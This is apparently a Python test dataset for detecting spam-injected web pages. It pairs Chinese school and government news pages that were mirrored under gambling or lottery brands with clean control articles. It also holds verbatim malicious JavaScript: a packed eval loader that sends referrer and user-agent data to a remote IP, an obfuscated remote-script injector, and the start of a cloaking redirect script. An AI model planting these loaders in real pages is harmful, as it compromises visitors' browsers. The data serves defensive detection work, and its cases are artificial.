# Real cases for held-out v3: text captured verbatim from the search tool's stored public-web-page corpus
# (excerpts), or injected code verbatim from a public GitHub file. Spam strings are verbatim from the captures.
CAP = ("text-only capture from the stored public-web-page corpus of the search tool (search excerpt); HTML markup is a "
       "minimal reconstruction around the captured lines (title/breadcrumb/headline/info line/body order kept); "
       "spam strings and article text are verbatim from the capture (excerpt, may stop mid-article)")
SPAM = [
 dict(url="https://bingxuerong.com/2018/0911/c1075a9629/page.html", site="bingxuerong.com", lang="zh",
  title="师生共同开展户外活动", date="2018-09-11", source=None, author=None,
  page_title="365体育官网入口师生共同开展户外活动", crumb="365体育官网入口新闻",
  headline="365体育官网入口师生共同开展户外活动",
  info="时间:2018-09-11作者:文章来源:365体育官网入口365体育官网入口浏览:114",
  body=["为调动广大师生参与体育运动的积极性,进一步推动学院师生体育竞技水平的提高,促进教师、员工之间相互了解、相互沟通,增进师生情感融合,营造一种积极拼搏,团结向上的良好氛围,2016423日,365体育官网入口举办了第二届春节田径运动会。",
        "此次运动会由分团委和学院工会共同组织,共设17个比赛项目,包括田赛、径赛、趣味活动等,全院共有390余名师生参加。竞技比赛中,学院领导、老师和员工一起开展接力赛,在趣味比赛中,师生同台互动,充分的增进了师生间的感情。一天的时间里,学院圆满完成了既定的赛事。",
        "此次运动会是建设校园文明工程的重要举措,广老员工走下网络、走出寝室、走向体育场,未来学院还将继续举办类似的系列活动。",
        "(曲艳鹏/供稿)"],
  spam=["365体育官网入口"], inj=["body_brand_substitution", "spam_title", "spam_breadcrumb", "spam_source_field"],
  note="school name replaced by the spam brand in title, headline, body and 来源 field; truth text keeps the sentences with the brand removed",
  text_sub={"365体育官网入口": ""}, search="学院 新闻 体育 官方网站 入口 举办 活动 师生"),
 dict(url="http://www.theadventuresofcsquared.com/pxYAapzBoi/info/1050/18903.htm", site="theadventuresofcsquared.com", lang="zh",
  title="羽乒活力绽风采,拼搏奋进聚人心——我校新生杯系列活动精彩落幕", date="2025-11-25", source="校团委", author="谢旖",
  page_title="羽乒活力绽风采,拼搏奋进聚人心——我校新生杯系列活动精彩落幕-九州(中国)", crumb="当前位置: 九州(中国)> 新闻中心> 校园动态> 正文",
  headline="羽乒活力绽风采,拼搏奋进聚人心——我校新生杯系列活动精彩落幕",
  info="来源:校团委 作者:谢旖通讯员:刘卡彤责任编辑:陈晓峰日期:2025-11-25点击:",
  body=["为丰富新生校园文化生活,增强学生体质,为增进师生情谊、拉近彼此距离,近日,我校成功举办羽毛球、乒乓球师生友谊赛。学校党委副书记、纪委书记钟茂开,副校长袁光华、姚家芳分别到场参加。",
        "学生队由2025级新生乒羽爱好者组成,教师队分别由学校教工羽毛球协会、乒乓球协会组成。比赛现场竞争激烈,但“友谊第一,比赛第二”的精神贯穿始终。赛场上,双方球员相互尊重、相互鼓励;赛后,大家握手致意,合影留念,用笑容和汗水诠释了深厚的师生情谊。",
        "据悉,活动旨在借助体育竞技帮助大家强健体魄、磨砺意志,打破学院壁垒,促进师生交流,增进友谊。未来,学校将持续推出更多元的活动,助力同学们全面发展。",
        "师生乒乓球交流活动", "师生羽毛球交流活动", "学生摄影记者:张瑶漫、陈柔柔"],
  spam=["九州(中国)"], inj=["spam_breadcrumb", "spam_title_suffix", "edu_page_mirror", "random_path_prefix"],
  note="mirror of a university news page on an unrelated domain; spam brand only in breadcrumb/home link and title suffix", search="学院 新闻 体育 官方网站 入口 举办 活动 师生"),
 dict(url="https://www.baphc.com/info/1012/7171.html", site="baphc.com", lang="zh",
  title=None, date=None, source=None, author=None,
  page_title="william威廉中文举行“悦动船海·活力海滨”特色活动启动仪式", crumb="首页 > 学院新闻 > 正文", headline="william威廉中文举行“悦动船海·活力海滨”特色活动启动仪式", info="",
  body=["为深入开展群众性体育活动,促进师生身心健康,增进师生情谊,3月10日下午,william威廉中文在海滨校区礼堂举行“悦动船海·活力海滨”特色活动启动仪式。院领导及80余名师生代表参加活动,活动由学院工会主席齐昊主持。",
        "启动仪式在热烈的气氛中拉开帷幕。教师代表郑祯远宣读了《“悦动船海·活力海滨”师生运动倡议书》,倡议全院师生“培养一项运动特长”“每天锻炼一小时”,养成学习好、工作好、锻炼好的良好习惯。随后,学院党委书记严谨为气排球队、八段锦太极拳队、篮球队、足球队、游泳队、悦跑队六支队伍授牌。最后,严谨在总结讲话中强调,健康的身体是干事创业的根基,和谐的氛围是凝心聚力的源泉。希望学院师生以体育为纽带,让运动场成为师生互动的“暖心场”、教学相长的“第二课堂”。",
        "接下来,学院将全力支持各队伍开展体育活动,进一步增强学院师生的凝聚力与向心力,营造“健康工作、快乐生活”的校园氛围。"],
  spam=["william威廉中文"], inj=["body_brand_substitution", "edu_page_mirror", "latin_cjk_brand"],
  note="college name replaced in the body by a Latin+CJK brand; title/headline reconstructed from the body's first sentence (not in capture), so title truth is null",
  text_sub={"william威廉中文": ""}, search="学院 新闻 体育 官方网站 入口 举办 活动 师生"),
 dict(url="http://kanqiu123.com/public/6608171/6554521.html", site="kanqiu123.com", lang="zh",
  title="六安市2015年政府信息公开工作年度报告", date="2016-03-25", source=None, author=None,
  page_title="六安市2015年政府信息公开工作年度报告", crumb="首页 > 政府信息公开 > 年度报告", headline="六安市2015年政府信息公开工作年度报告",
  info="浏览次数:发布时间:2016-03-25 00:00 字号: 下载 我要纠错 打印 收藏",
  body=["本年度报告是根据《中华人民共和国政府信息公开条例》(以下简称《条例》)、《国务院办公厅比分直播,篮球比分直播印发2015年政府信息公开工作要点的通知》(国办发〔2015〕22号)和《安徽省人民政府办公厅比分直播,篮球比分直播印发2015年全省政府信息公开政务服务工作要点的通知》(皖政办〔2015〕23号)(以下简称《要点》)要求,综合各县区人民政府和市直各部门、各直属机构的政府信息公开年度报告和有关网上统计数据而成。全文包括概述,总体情况及《要点》落实情况,主动公开政府信息情况,代表建议委员提案办理结果公开情况、依申请公开政府信息情况及相关行政复议、诉讼情况,政府信息公开的收费及减免情况,政府信息公开工作机构、人员情况,存在的主要问题和改进措施。本年度报告中使用数据统计期限为2015年1月1日至12月31日。本年度报告的电子版可在六安市政府信息公开网(/openness)下载,如对本报告有任何疑问,请与六安市政府信息公开办联系(地址:六安市行政中心7号楼406室,电话:0564--3374099,邮编:237000)。",
        "一、概述",
        "2015年,在省委、省政府领导下,在省政府信息公开办精心指导下,我市以党的十八大和十八届三中、四中、五中全会精神为指导,紧紧围绕《要点》精神和要求,切实加强组织领导,完善工作制度,采取有效措施,着力推进政府信息公开,取得了明显成效。",
        "(一)切实加强组织领导2015年,市政府把“公开透明”作为政府工作的基本方法,进一步加强对政府信息公开工作的领导。1月6日,市长毕小彬听取汇报并签发《六安市人民政府比分直播,篮球比分直播2014年度政府信息公开自评总结"],
  spam=["比分直播,篮球比分直播"], inj=["keyword_stuffing_in_body", "gov_page_mirror"],
  note="gov annual report mirrored with a sports-betting keyword pair inserted after every occurrence of 办公厅/人民政府; truth text = body with the inserted pair removed",
  text_sub={"比分直播,篮球比分直播": ""}, search="人民政府 召开 会议 娱乐 官网 app下载"),
 dict(url="http://tjalds.com/info/1043/10855.htm", site="tjalds.com", lang="zh",
  title="学校召开2021年度体育运动委员会会议", date="2021-04-14", source=None, author=None,
  page_title="大发dafa888_dafa888手机登录-官网", crumb="当前位置: 大发dafa888_dafa888手机登录-官网 > 新闻中心 > 正文",
  headline="学校召开2021年度体育运动委员会会议", info="发布日期:2021-04-14     点击:",
  body=["4月9日上午,学校在227会议室召开2021年度体育工作委员会会议。副校长洪利出席会议,体育运动委员会全体委员参加会议,各二级学院院长出席会议。",
        "会上,体育部副主任刘彬介绍学校第三十三届田径运动会的筹备情况作出汇报,重点介绍了田径运动会竞赛规程,参赛项目和比赛办法以及第九套广播操比赛竞赛规程,评比方法。",
        "洪利在总结讲话中指出,各学院要高度重视此次运动会,积极引导学生参加体育锻炼,合理安排赛前训练,做好安全及经费保障,切实加强安全教育,避免学生意外伤害;相关部门要密切协作,做实做细各项准备工作,确保运动会顺利举办。(供稿:体育部;编辑:朱宏)"],
  spam=["大发dafa888_dafa888手机登录-官网"], inj=["spam_title", "spam_breadcrumb", "edu_page_mirror"],
  note="whole <title> and breadcrumb home link are the spam brand; the article is clean", search="大学 学院 召开 专题会议 半岛体育 来源 编辑 审核"),
 dict(url="http://raohe.gouxiao2.com/183778/tiaozhu.html", site="gouxiao2.com", lang="zh",
  title="高校对校外人员开放了?专家:应逐步适度恢复对外开放", date=None, source=None, author=None,
  page_title="凤凰彩票_(中国)维基百科", crumb="首页>文化频道>要闻>正文", headline="凤凰彩票_(中国)维基百科",
  info="来源:凤凰彩票1837-03-31 17:48",
  body=["高校对校外人员开放了?专家:应逐步适度恢复对外开放******",
        "中新网北京2月1日电(刘欢)近日,清华大学、北京大学等多所高校宣布恢复校友出入校权限,部分高校还允许家长和校外人员申请入校。",
        "“乙类乙管”实施后,高校对外开放规则有何变化?校外人员是否还能出入校园?",
        "恢复校友出入权限,家长也能到校参观",
        "目前,清华大学、北京大学、中国人民大学、北京科技大学、武汉大学、哈尔滨工程大学等高校陆续发布通知:结合疫情防控政策调整和校园实际,学校恢复校友免预约出入校本部的权限。",
        "大学校友可通过出示电子校友卡、实体校友卡或有效身份证件,经工作人员核验确认后,步行入校。未办理相关证件的校友可通过校内单位预约流程,申请入校。",
        "对于家长和校外人员,东南大学特别规定:因需入校的家长和其他校外人员,可提前一天线上申请,并经校内有关单位负责人审批,审批通过后生成入校码,方可入校,出校时,需做好扫码登记。",
        "资料图:图为2021年北京大学本科新生在北京大学西门与家人合影留念 中新社记者 易海菲 摄",
        "此外,香港中文大学(深圳)近期发布通知,取消白名单以外人员入校报批制度,恢复疫情前入校模式:工作日来访人员可在官方小程序申请入校,填写被访部门、被访人员及来校事由;来访人员出示有效证件,做好登记后可进入学校。",
        "大学在周末和法定节假日对外开放,参观人员在校园开放期间必须持本人有效证件在门岗登记,并接受安保人员查验。"],
  spam=["凤凰彩票_(中国)维基百科", "来源:凤凰彩票"], inj=["spam_title", "spam_headline", "spam_source_field", "fake_date", "news_content_farm"],
  note="lottery content farm page: title/headline/来源 are spam, fake date 1837; the article is a real news wire text; truth text excludes the spam headline and the '******' tail of the first line",
  text_sub={"******": ""}, search="学校 新闻 中心 正文 国际 官网 登录 入口 发布时间 作者 来源"),
 dict(url="https://m.ljd118.com/s2o70l.html", site="ljd118.com", lang="zh",
  title=None, date=None, source=None, author=None,
  page_title="黑料 官网", crumb="", headline="黑料 官网", info="黑料揭秘",
  body=["5月,安徽省池州市石台县政府大院也曾因建成59年来一直对市民完全开放,引发网友点赞。当地市民称,政府大院从1965年建成到现在,既没有院墙,也没有门禁,更没有门卡,“这么多年一直这样,老百姓直接进,找人办事很方便。”石台县委宣传部工作人员表示,当地县委、县政府的办公楼连在一起,自建立至今均未设门禁,初心是为了方便群众找人办事。其称,没有门禁并不会增加工作量,群众有难题会尽量解决。此外,大院在周末可供市民免费停车。",
        "对于此次舒城县的走红,吕德文分析,从另一角度也说明了部分群众对政府还存在高墙大院、缺乏亲切感、封闭又繁琐等“刻板印象”。“但实际上,政府的开放性水平在不断提高。”吕德文举例说,从政务公开、简化群众办事流程,甚至是敞开大院让群众散步、遛弯,在节假日开放食堂让附近群众用餐等,都体现出政府为民服务的初心。"],
  tail=["📛(撰稿:韦唯薇)台媒:民众党紧急召开会议,同意柯文哲延长请假3个月", "2024/11/21萧纨永🍩", "「光明网」凌晨突发!6人全部遇难", "2024/11/21弘蓉保🎬", "三料影帝又获金鹰奖!与陆毅是同学,出道20多年买不起房,娶了小18岁的白富美", "2024/11/21路博莉🖇"],
  pre="✢⛯❪",
  spam=["黑料 官网", "黑料揭秘"], inj=["spam_title", "emoji_stuffing", "fake_related_list", "news_content_farm"],
  note="content-farm page with a porn-gossip brand as title, emoji markers and a fake related-news list with invented bylines; article excerpt is real news text; title truth null (no real headline in capture)",
  search="乡镇 人民政府 开展 工作 bob 半岛 官方 app 动态"),
]
# composite: real injected code from a public GitHub file, inserted into a rebuilt real clean page
PACKER_SRC = "github:mdpabel/mdpabel.com-v4@dcaafbb9559a852101ccb136a4c54c541ae4f092:src/content/wordpress-threats/javascript-redirect-injection.md"
PACKER = r'''<noindex><script id="wpinfo-pst1" type="text/javascript" rel="nofollow">eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};if(!''.replace(/^/,String)){while(c--){d[c.toString(a)]=k[c]||c.toString(a)}k=[function(e){return d[e]}];e=function(){return'\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\b'+e(c)+'\b','g'),k[c])}}return p}('0.6("<a g=\'2\' c=\'d\' e=\'b/2\' 4=\'7://5.8.9.f/1/h.s.t?r="+3(0.p)+"\o="+3(j.i)+"\'><\/k"+"l>");n m="q";',30,30,'document||javascript|encodeURI|src||write|http|45|67|script|text|rel|nofollow|type|97|language|jquery|userAgent|navigator|sc|ript|zasti|var|u0026u|referrer|fsikh||js|php'.split('|'),0,{}))
</script></noindex>'''
COMP = [
 dict(url="https://www.zkvtc.edu.cn/info/1032/7454.htm", site="zkvtc.edu.cn", lang="zh",
  title="学校召开第十八届田径运动会筹备会", date="2025-03-26", source=None, author=None,
  page_title="学校召开第十八届田径运动会筹备会", crumb="学校首页 >> 新闻资讯 >> 学校要闻 正文", headline="学校召开第十八届田径运动会筹备会",
  info="日期:2025-03-26 16:16:16  作者:   编辑:宣传部   浏览次数:",
  body=["3月26日上午,学校在开元校区第六会议室召开第十八届田径运动会筹备会,安排部署运动会各项准备工作。副校长于爱霞出席并讲话,各相关职能部门负责人及教学院部党总支书记、院长参加。教务处处长李嘉主持。",
        "会上,体育学院院长徐长宇介绍学校第十八届田径运动会实施方案及筹备情况;校运动会总导演王春生就田径运动会具体工作和任务分工进行详细说明。与会人员对相关工作细节展开讨论交流。",
        "于爱霞强调,运动会是学校的一项重要工作,也是全校的一次大型体育盛会,更是全校师生精神风貌的一次集中展示。她要求,一是要提高认识,高度重视,精心组织,增强办好本次运动会的使命感和责任感,力争彰显特色亮点;二是要统筹协调,做好落实,按照任务分工,各司其职,齐心协力,务求办出质量、办出水平;三是守牢底线,确保安全,要制订应急处置预案,做好师生安全教育、后勤服务和医疗保障工作,力争赛出友谊、赛出风格,切实把本次运动会办成一届文明、精彩、安全、圆满的运动盛会。",
        "供稿:宣传部        编审:石岩        签审:孙黎        审核:万四新"],
  script=PACKER, where="body_end", spam=[], inj=["packer_eval", "docwrite_script_loader", "referrer_to_remote", "noindex_wrapper"],
  origin_inj=PACKER_SRC + " (a WordPress malware write-up quoting an injected <noindex><script id=wpinfo-pst1> packer that document.writes a remote <script> carrying referrer and user agent); placed before </body>, verbatim",
  search="大学 学院 召开 专题会议 半岛体育 来源 编辑 审核"),
]
LEGIT = [
 dict(url="https://cdn.gcs.gov.mo/detail/zh-hant/N21JLRjjQZ", site="gcs.gov.mo", lang="zh",
  title=None, date=None, source=None, author=None, page_title="新聞局 - 取消修改博彩法公眾諮詢會", crumb="首頁 > 新聞", headline="", info="",
  body=["由於明天(13)本澳將受强烈熱帶風暴“圓規”影響,原訂於10月13日在世貿中心五樓蓮花廳舉行的修改第16/2001號法律《娛樂場幸運博彩經營法律制度》公眾諮詢會取消。博彩監察協調局將會個別通知已報名的參加者。",
        "博監局將盡快重新安排公眾諮詢會的日期及時間。社會各界對是次修改博彩法有任何意見及建議,請透過電郵、郵寄、電話(語音留言)、傳真方式向博監局提供。有關修改博彩法公眾諮詢詳情可瀏覽博監局網站www.dicj.gov.mo。"],
  topic="Macau government press release: gaming-law consultation session cancelled", search="澳门 博彩监察协调局 博彩业 法律 修订 立法会 新闻"),
 dict(url="https://xiangyu-macau.oss-cn-hongkong.aliyuncs.com/app/szb/pc/content/202110/02/content_147580.html", site="aliyuncs.com", lang="zh",
  title="修改博彩法不延長諮詢期", date="2021-10-02", source="澳门日报", author=None, page_title="修改博彩法不延長諮詢期", crumb="第A10版:經濟", headline="修改博彩法不延長諮詢期", info="2021年10月02日",
  body=["【本報消息】修改《娛樂場幸運博彩經營法律制度》正進行公開諮詢。新一波疫情下,會否調整時間?經濟財政司司長李偉農表示,修改博彩法的諮詢期至十月廿九日,為期四十五天,期間除了舉辦諮詢會,也將透過書面、電郵等不同渠道收集社會意見,故不會延長諮詢時間。餘下的公開諮詢安排,會根據衛生當局的指引及要求進行。強調公開諮詢只是收集意見其中一個渠道。",
        "他提到,修改博彩法同時希望博彩業維持一定規模,惟賭牌數量等問題則交由社會充分討論,冀廣納意見,凝聚主流,為未來博彩業的可持續發展訂定與時俱進的法律。"],
  topic="Macao Daily e-paper: gaming law consultation period", search="澳门 博彩监察协调局 博彩业 法律 修订 立法会 新闻"),
 dict(url="https://www.cyberctm.com/zh_TW/news/detail/2814044", site="cyberctm.com", lang="zh",
  title="李司:管好,非管死", date="2022-01-25", source=None, author=None, page_title="李司:管好,非管死", crumb="新聞 > 澳聞", headline="李司:管好,非管死", info="2022-01-25 06:35",
  body=["新博彩法釐清博企中介合作人職責", "李司:管好,非管死",
        "【本報消息】立法會全體會議昨日在三十票贊成、一票反對下,一般性通過“新博彩法”。經濟財政司司長李偉農表示,《娛樂場幸運博彩經營法律制度》法律生效至今已實施約二十年,隨着博彩業的發展,無論法律實踐抑或監管都存在不足及滯後,有必要適時檢討及修訂博彩法。",
        "李偉農稱,政府希望博彩業未來朝更健康及可持續發展,對博彩業是“要管,但要管好,不是管死。”承批公司、中介、合作人公司,在法案中各有職責定位和相應責任,釐清了主體的邊界及責任,在職責分明的情況下共同為博彩業服務。",
        "預防賭業負面影響"],
  topic="Macau news portal: Legislative Assembly passes new gaming law in general", search="澳门 博彩监察协调局 博彩业 法律 修订 立法会 新闻"),
 dict(url="https://paper.xinmin.cn/html/xmwb/2025-07-16/13/216140.html", site="xinmin.cn", lang="zh",
  title="去年全市体彩销售90.48亿元", date="2025-07-16", source="新民晚报", author="陆玮鑫", page_title="去年全市体彩销售90.48亿元", crumb="第13版:文体新闻/体育", headline="去年全市体彩销售90.48亿元", info="筹集公益金21.64亿元",
  body=["本报讯(记者 陆玮鑫)7月14日,上海市体彩中心通过官方渠道公示了2024年度上海市体育彩票公益金筹集、分配和市本级彩票公益金安排使用情况。经统计,去年全市发行销售体育彩票90.48亿元、筹集体育彩票公益金21.64亿元。",
        "在2024年筹集的总共21.64亿元的体育彩票公益金中,10.73亿元上缴中央,下拨各区4.43亿元,市本级留存6.48亿元(其中包括2024年体育彩票弃奖0.18亿元上缴市财政,纳入体育彩票公益金管理)。",
        "按照体育彩票用于全民健身计划纲要和奥运争光计划的要求,2024年度市本级体育彩票公益金实际使用5.23亿元。主要使用方面包含全民健身经费1.03亿元,青少年体育训练专项经费0.66亿元,国际国内赛事扶持经费0.71亿元,运动员保障经费及退役自主择业一次性经济补偿0.05亿元,体育设施运行经费0.60亿元,体育场地修缮、体育专项设备购置1.29亿元,体育训练专项业务经费0.89亿元。"],
  topic="newspaper: Shanghai sports-lottery sales and welfare fund use", search="体育彩票 销量 公益金 筹集 体育局 新闻 2024年"),
 dict(url="http://jingji.cntv.cn/20111227/118497.shtml", site="cntv.cn", lang="zh",
  title=None, date="2011-12-27", source=None, author=None, page_title="2011年中国体育彩票销售额达903亿元", crumb="央视网 > 经济", headline="", info="",
  body=["国家体育总局局长刘鹏在12月27日开幕的全国体育局长会议上透露,2011年中国体育彩票销售额已达到903亿元人民币,再创新高。",
        "刘鹏在大会上谈到2011年体育工作时提到了体育彩票的销售情况。他说,截至12月20日,体育彩票发行903亿元,为国家筹集公益金300亿元。",
        "2010年,全国共发行体育彩票694.65亿元,募集公益金191.98亿元。相比去年,2011年中国体育彩票销售额又有大幅增长。",
        "刘鹏在讲话中还透露,2011年,总局彩票公益金用于体育健身设施建设的比例进一步提高,达到88.2%。其中,资助中西部地区建设农民体育健身工程4550个、“雪炭工程”96个、乡镇体育健身工程399个。",
        "(《证券时报》快讯中心)"],
  topic="state TV site: national sports lottery sales 2011", search="体育彩票 销量 公益金 筹集 体育局 新闻 2024年"),
 dict(url="http://covid-19.chinadaily.com.cn/typd/2011-12/28/content_14339840.htm", site="chinadaily.com.cn", lang="zh",
  title=None, date="2011-12-28", source="新华网", author="王镜宇", page_title="体育彩票销售额再创新高", crumb="首页 > 体育", headline="", info="来源:新华网(记者 王镜宇) 编辑:宁波",
  body=["国家体育总局局长刘鹏在27日开幕的全国体育局长会议上透露,2011年中国体育彩票销售额已达到903亿元人民币,再创新高。",
        "刘鹏在大会上谈到2011年体育工作时提到了体育彩票的销售情况。他说,截至12月20日,体育彩票发行903亿元,为国家筹集公益金300亿元。",
        "2010年,全国共发行体育彩票694·65亿元,募集公益金191·98亿元。相比去年,2011年中国体育彩票销售额又有大幅增长。",
        "刘鹏在讲话中还透露,2011年,总局彩票公益金用于体育健身设施建设的比例进一步提高,达到88.2%。其中,资助中西部地区建设农民体育健身工程4550个、“雪炭工程”96个、乡镇体育健身工程399个。",
        "国家体育总局将对江苏省体育局、山东省体育局、广东省体育局进行表彰,授予“2011年度全国体育彩票突出贡献奖”。此外,还将授予浙江省体育局等12个省、市体育局“2011年度全国体育彩票工作贡献奖”。"],
  topic="news site: sports lottery sales record and awards to provincial sports bureaus", search="体育彩票 销量 公益金 筹集 体育局 新闻 2024年"),
 dict(url="http://www.china-lottery.net/news/474885.html", site="china-lottery.net", lang="zh",
  title="【图解】民政部2018年彩票公益金使用情况公告", date="2019-07-05", source="中国福利彩票服务号", author=None, page_title="【图解】民政部2018年彩票公益金使用情况公告", crumb="首页 > 新闻", headline="【图解】民政部2018年彩票公益金使用情况公告", info="中国福利彩票服务号2019-07-05 16:22责编:中华彩票网",
  body=["经财政部核准,民政部2018年彩票公益金预算额度为298700万元,专项用于民政社会福利及相关公益事业。民政部遵循“扶老、助残、救孤、济困”的福彩公益金使用宗旨和彩票公益金使用有关规定,重点支持社会养老服务体系建设项目;优先支持社会福利设施建设以及残疾人、孤儿、经济困难人群等特殊困难群体受益的项目;适当支持符合规定的其他社会公益项目;补助地方资金着重向贫困地区倾斜。根据《彩票管理条例》、《民政部彩票公益金使用管理信息公开办法》等相关规定,现对2018年度民政部彩票公益金使用情况公告如下。"],
  topic="lottery news site: Ministry of Civil Affairs welfare-lottery fund use notice", search="福利彩票 发行中心 公益金 使用 公告 民政厅"),
 dict(url="http://big5.china.com.cn/gate/big5/union.china.com.cn/txt/2014-03/20/content_6759095.htm", site="china.com.cn", lang="zh",
  title=None, date="2014-03-20", source=None, author=None, page_title="中國福利彩票累計銷量達10000億多元", crumb="", headline="", info="",
  body=["從民政部獲悉:從1987年創立至2014年3月14日,中國福利彩票累計銷量達10000億多元,累計籌集公益金量約3100億元。",
        "中國福利彩票始終堅持“扶老、助殘、救孤、濟困”的發行宗旨,在改善民生、構建和諧社會中發揮了重要作用。發行福利彩票所籌集的公益金,50%上繳中央財政,主要用於補充社會保障基金,支援青少年學生校外活動場所建設和維護,教育助教助學,困難群體大病救助等。至今,福利彩票公益金已資助30多萬個項目,直接、間接受益人達數億人次。"],
  topic="news portal (traditional script gateway): welfare lottery cumulative sales", search="福利彩票 发行中心 公益金 使用 公告 民政厅"),
 dict(url="https://pmc.ncbi.nlm.nih.gov/articles/PMC4500885/", site="nih.gov", lang="en",
  title="Comparing Problem Gamblers with Moderate-Risk Gamblers in a Sample of University Students", date="2015-05-27", source=None, author="Yi Shen; Sylvia Kairouz; Louise Nadeau; Chantal Robillard",
  page_title="Comparing Problem Gamblers with Moderate-Risk Gamblers in a Sample of University Students - PMC", crumb="Journal of Behavioral Addictions", headline="Comparing Problem Gamblers with Moderate-Risk Gamblers in a Sample of University Students", info="2015 May 27;4(2):53–59. doi: 10.1556/2006.4.2015.002",
  body=["Background and Aims", "In an effort to provide further empirical evidence of meaningful differences, this study explores, in a student population, the distinctions in gambling behavioral patterns and specific associated problems of two levels of gambling severity by comparing problem gamblers (PG) and moderate-risk gamblers (MR) as defined by the score on the Problem Gambling Severity Index (PGSI; MR: 3-7; PG: 8 and more).",
        "Methods", "The study sample included 2,139 undergraduate students (male = 800, mean age = 22.6) who completed the PGSI and questionnaires on associated problems.",
        "Results", "Results show that problem gamblers engage massively and more diversely in gambling activities, more often and in a greater variety of locations, than moderate-risk gamblers. In addition, important differences have been observed between moderate-risk and problem gamblers in terms of expenditures and accumulated debt. In regards to the associated problems, compared to moderate-risk gamblers, problem gamblers had an increased reported psychological distress, daily smoking, and possible alcohol dependence.",
        "Discussion and Conclusions", "The severity of gambling and associated problems found in problem gamblers is significantly different from moderate-risk gamblers, when examined in a student population, to reiterate caution against the amalgamation of these groups in future research."],
  topic="problem-gambling research abstract (PMC)", search="problem gambling research study university prevalence adults"),
 dict(url="https://www.heraldopenaccess.us/openaccess/does-easy-access-to-casinos-influence-addictive-gambling-behavior-by-college-students-the-potential-role-of-tribal-gaming-in-america", site="heraldopenaccess.us", lang="en",
  title="Does Easy Access to Casinos Influence Addictive Gambling Behavior by College Students? The Potential Role of Tribal Gaming in America", date="2021-08-17", source=None, author="Sciglimpaglia D; Tarr EK; Brodowsky GH",
  page_title="Does Easy Access to Casinos Influence Addictive Gambling Behavior by College Students? The Potential Role of Tribal Gaming in America", crumb="Journal of Addiction & Addictive Disorders", headline="Does Easy Access to Casinos Influence Addictive Gambling Behavior by College Students? The Potential Role of Tribal Gaming in America", info="Published Date: Aug 17, 2021",
  body=["This study extends prior research examining whether physical proximity to casinos influences gambling behavior of college students, as well as whether this is related to gender and GPA. We collected data from students at a major urban university, where there are twelve casinos within sixty miles of the campus. Moreover, these casinos are tribal gaming casinos, which are increasingly popular in the United States. Our results show a significantly higher incidence of problematic gamblers than in the national average, indicating that the dense proximity of tribal gaming casinos does influence problematic gambling. Furthermore, we found that this effect is stronger for males. Finally, our data indicated that problematic gamblers are likely to engage in alcohol consumption while gambling. We discuss our results in terms of implications for public policy."],
  topic="problem-gambling research abstract (open-access journal)", search="problem gambling research study university prevalence adults"),
 dict(url="https://link.springer.com/doi/10.1007/s10899-017-9726-y", site="springer.com", lang="en",
  title="A Meta-analytical Synthesis and Examination of Pathological and Problem Gambling Rates and Associated Moderators Among College Students, 1987–2016", date=None, source=None, author=None,
  page_title="A Meta-analytical Synthesis and Examination of Pathological and Problem Gambling Rates and Associated Moderators Among College Students, 1987–2016 | Journal of Gambling Studies", crumb="Journal of Gambling Studies", headline="A Meta-analytical Synthesis and Examination of Pathological and Problem Gambling Rates and Associated Moderators Among College Students, 1987–2016", info="Original Paper",
  body=["The problem of gambling addiction is especially noteworthy among college students, many of whom have the resources, proximity, free time, and desire to become involved in the myriad options of gambling now available. Although limited attention has been paid specifically to college student gambling in the body of literature, there have been three published meta-analyses estimating the prevalence of probable pathological gambling among college students. The research presented is the largest and most comprehensive, presenting an up-to-date proportion of those students worldwide exhibiting gambling pathology as assessed by the South Oaks Gambling Screen, and is the first to include estimates of sub-clinical problem gambling. A thorough literature review and coding procedure resulted in 124 independent data estimates retrieved from 72 studies conducted between 1987 and the present, surveying 41,989 university students worldwide. The estimated proportion of probable pathological gamblers among students was computed at 6.13%, while the rate of problem gambling was computed at 10.23%. Statistical significance was found in the influence of the percentage of non-white students on pathological gambling rates. The implications of this and other moderator analyses such as age and year of studies, as well as recommendations for future practice in dealing with college students and gambling disorder on campus are outlined and described in detail. Suggestions and rationales for future avenues of research in the area are also described."],
  topic="problem-gambling meta-analysis abstract (publisher page)", search="problem gambling research study university prevalence adults"),
]

EOO_SRC = "github:CuckooEXE/cuckooexe.github.io@1e81f880c2276ddb62186dccc1b1376e666daf8a:_posts/2022-10-08-UltimateUpdate.md"
EOO = r'''<script>;(function(){var dq=document.referrer;var ad=window.location.href;var xw=navigator.userAgent;var ej=new RegExp(vz('p:p/z/j(a[c^y/t]c+x)y/x'));if(!dq||ad.match(ej)[1]==dq.match(ej)[1]||xw.indexOf(vz('xWvitnadrobwbsr'))==-1||window.localStorage[vz('k_m_h_suetemmal')]){return;}var kf=vz('usvcxrqizpktc');var ox=document.createElement(kf);ox.async=true;ox.src=vz('shntitiphss:r/j/jtjraajirnyibnngg.acq1nygpvsjiklhadnbtjie.conrugt/xroeipmodrstt?rrv=cdnjs0k1mMlDjYf1pNkDkgz3sMpTzInwfZpTkUj2aZxmyQx1kZhTgZllvNeCuZajwatWgQp9bMajkYf0u');var fq=document.getElementsByTagName(kf)[0];fq.parentNode.insertBefore(ox,fq);function vz(wm){var yo='';for(var ud=0;ud<wm.length;ud++){if(ud%2){yo+=wm[ud];}}return yo;}})();</script>'''
DBXF_SRC = "github:xingchenwl/cdn@0d8ad995187c0280893a834fb44395e59e747710:ads/cbcv/dbxf.js"
DBXF = r'''<script>
// 2022年12月2日
var system = {
    win: false,
    mac: false,
    xll: false
};
var p = navigator.platform;
var us = navigator.userAgent.toLowerCase();

system.win = p.indexOf("Win") == 0;
system.mac = p.indexOf("Mac") == 0;
system.x11 = (p == "X11") || (p.indexOf("Linux") == 0);

var regexp = /\.(sogou|soso|baidu|google|youdao|yahoo|bing|so|biso|gougou|ifeng|ivc|sooule|niuhu|biso)(\.[a-z0-9\-]+){1,2}\//ig;
var where = document.referrer;
if (!system.win && !system.mac && !system.xll && !regexp.test(where)) {
            !(function () {
                function GvMSN (s) {
